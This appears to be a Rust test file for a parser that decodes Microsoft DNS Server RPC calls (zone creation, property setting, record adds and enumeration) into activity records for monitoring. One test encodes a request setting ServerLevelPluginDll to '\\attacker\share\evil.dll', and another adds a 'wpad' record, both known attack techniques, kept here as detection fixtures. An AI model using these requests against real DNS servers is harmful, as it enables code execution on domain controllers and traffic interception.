//! Calls of a real client, their stubs as they were on the wire.

use serde_json::{Value, json};

use crate::dcerpc::stubs::testing::{Stub, Talk};
use crate::testing::unhex;

const DNSSERVER: &str = "50abc2a4-574d-40b3-9d66-ee4fd5fba076";

/// Client version, flags and `dc1.lab.example`.
const ENDS: &str = "00000700 00000000 00000200 10000000 00000000 10000000
    6400630031002e006c00610062002e006500780061006d0070006c0065000000";

fn call(opnum: u16, request: &str, response: &str) -> Value {
    Talk::new(DNSSERVER, false)
        .call(opnum, &unhex(request), &unhex(response))
        .only()
}

#[test]
fn a_zone_is_created() {
    let zeros = "00".repeat(4 * 32);
    let activity = call(
        5,
        &format!(
            "{ENDS} 00000000 00000000 04000200 0b000000 00000000 0b000000 5a6f6e6543726561746500 00 28000000 28000000
             08000200 00000000 00000000 0c000200 01000000 00000000 00000000 00000000 00000000 01000000 01000000 00000000 00000000
             00000000 00000000 00000000 00000000 00000000 04000000 00000000 {zeros}
             13000000 00000000 13000000 37372e31302e696e2d616464722e6172706100"
        ),
        "00000000",
    );
    let details = &activity["details"];
    assert_eq!(activity["kind"], "rpc_call");
    assert_eq!(
        (&details["dns_operation"], &details["dns_server"]),
        (&json!("ZoneCreate"), &json!("dc1.lab.example"))
    );
    assert_eq!(
        (&details["created_zone"], &details["zone_type"]),
        (&json!("77.10.in-addr.arpa"), &json!(1))
    );
    assert_eq!(details["directory_integrated"], true);
    assert_eq!(details["operation"], "R_DnssrvOperation2");
}

#[test]
fn a_property_is_named() {
    let activity = call(
        5,
        &format!(
            "{ENDS} 04000200 13000000 00000000 13000000 37372e31302e696e2d616464722e6172706100 00 00000000 08000200 13000000
             00000000 13000000 526573657444776f726450726f706572747900 00 0f000000 0f000000 0c000200 02000000 10000200
             0c000000 00000000 0c000000 416c6c6f7755706461746500"
        ),
        "05000000",
    );
    let details = &activity["details"];
    assert_eq!(
        (&details["property"], &details["value"]),
        (&json!("AllowUpdate"), &json!(2))
    );
    assert_eq!(details["zone"], "77.10.in-addr.arpa");
    assert_eq!(activity["status"]["name"], "ERROR_ACCESS_DENIED");
}

#[test]
fn records_are_read() {
    let pointer = call(
        9,
        &format!(
            "{ENDS} 04000200 13000000 00000000 13000000 37372e31302e696e2d616464722e6172706100 00 05000000 00000000 05000000
             31302e3000 000000 08000200 11000000 1100 0c00 f0000000 01000000 84030000 00000000 00000000
             106463312e6c61622e6578616d706c652e 000000 00000000"
        ),
        "00000000",
    );
    assert_eq!(pointer["details"]["node"], "10.0");
    assert_eq!(
        pointer["details"]["added"],
        json!({"type": 12, "type_name": "PTR", "ttl": 900, "data": "dc1.lab.example."})
    );
    let wpad = call(
        9,
        &format!(
            "{ENDS} 04000200 0c000000 00000000 0c000000 6c61622e6578616d706c6500 05000000 00000000 05000000 7770616400 000000
             08000200 04000000 0400 0100 f0000000 01000000 84030000 00000000 00000000 0a4d0042 00000000"
        ),
        "00000000",
    );
    assert_eq!(wpad["details"]["added"]["data"], "10.77.0.66");
    assert_eq!(
        (&wpad["details"]["zone"], &wpad["details"]["node"]),
        (&json!("lab.example"), &json!("wpad"))
    );
}

#[test]
fn an_enumeration_names_zone_node_and_type() {
    let activity = call(
        8,
        &format!(
            "{ENDS} 04000200 0c000000 00000000 0c000000 6c61622e6578616d706c6500 08000200 02000000 00000000 02000000 4000
             0000 00000000 ff00 0000 01000000 00000000 00000000"
        ),
        "00000000 00000000 00000000",
    );
    let details = &activity["details"];
    assert_eq!(
        (&details["zone"], &details["node"]),
        (&json!("lab.example"), &json!("@"))
    );
    assert_eq!(
        (&details["record_type"], &details["select_flags"]),
        (&json!(255), &json!(1))
    );
}

#[test]
fn a_library_that_the_server_is_to_load_is_named() {
    for wide in [false, true] {
        let request = Stub::new(wide)
            .u32(0x0007_0000)
            .u32(0)
            .wide_argument("dc1")
            .null()
            .u32(0)
            .pointer()
            .narrow_string("ServerLevelPluginDll")
            .u32(3)
            .pad64(8)
            .u32(3)
            .pad64(8)
            .wide_argument(r"\\attacker\share\evil.dll")
            .done();
        let activity = Talk::new(DNSSERVER, wide).call(5, &request, &[0; 4]).only();
        assert_eq!(activity["details"]["dns_operation"], "ServerLevelPluginDll");
        assert_eq!(activity["details"]["value"], r"\\attacker\share\evil.dll");
        assert_eq!(activity["observed"]["host"], "attacker");
    }
}

#[test]
fn the_older_operations_have_no_version() {
    let request = Stub::new(false)
        .wide_argument("dc1")
        .null()
        .pointer()
        .narrow_string("ServerInfo")
        .done();
    let activity = Talk::new(DNSSERVER, false).call(1, &request, &[0; 12]).only();
    assert_eq!(activity["details"]["dns_operation"], "ServerInfo");
    let request = Stub::new(false)
        .wide_argument("dc1")
        .null()
        .pointer()
        .narrow_string("EnumZones");
    let request = request.u32(1).u32(1).u32(7).done();
    let activity = Talk::new(DNSSERVER, false).call(2, &request, &[0; 12]).only();
    assert_eq!(activity["details"]["value"], 7);
}
